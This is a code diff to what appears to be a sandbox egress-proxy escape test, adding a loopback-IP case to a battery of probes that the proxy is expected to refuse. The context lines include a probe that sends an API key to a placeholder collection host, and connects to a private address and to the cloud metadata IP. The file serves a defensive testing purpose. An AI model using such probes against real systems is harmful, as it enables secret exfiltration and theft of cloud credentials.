@@ -97,12 +97,15 @@ def connect(hostport):
 placeholder = os.environ["DEMO_API_KEY"]
 out["placeholder_elsewhere"] = http("{{OTHER}}/collect", {"X-Leak": placeholder})
 out["placeholder_home"] = http("{{API}}/v1/quote?text=" + placeholder)
-# A name that resolves to loopback, under a rule without the private
-# allowance, meets the address guard. The IP literals below have no rule and
-# are denied by policy before any tunnel exists; the guard's refusal of such
-# addresses is tested in the proxy package with a dialer that cannot reach
-# them, since here a broken guard would really dial them.
+# A name that resolves to loopback, and a loopback IP literal, under rules
+# without the private allowance, meet the address guard (were it broken, the
+# literal's dial would find nothing listening: a 502, not this refusal). The
+# private and metadata literals below have no rule and are denied by policy
+# before any tunnel exists; the guard's refusal of such addresses is tested
+# in the proxy package with a dialer that cannot reach them, since here a
+# broken guard would really dial them.
 out["private_by_name"] = http("{{GUARDED}}/v1/x")
+out["loopback_ip"] = http("https://127.0.0.2:{{APIPORT}}/v1/x")
 out["private_ip"] = connect("10.1.2.3:443")
 out["metadata_ip"] = connect("169.254.169.254:80")
 
@@ -220,6 +223,7 @@ func TestEscapeBattery(t *testing.T) {
 		"placeholder_elsewhere": "status 403 reason tripwire",
 		"placeholder_home":      "status 200",
 		"private_by_name":       "status 403 reason private_address",
+		"loopback_ip":           "status 403 reason private_address",
 		"private_ip":            "403 Forbidden reason host_not_allowed",
 		"metadata_ip":           "403 Forbidden reason host_not_allowed",
 		"host_mismatch":         "421",
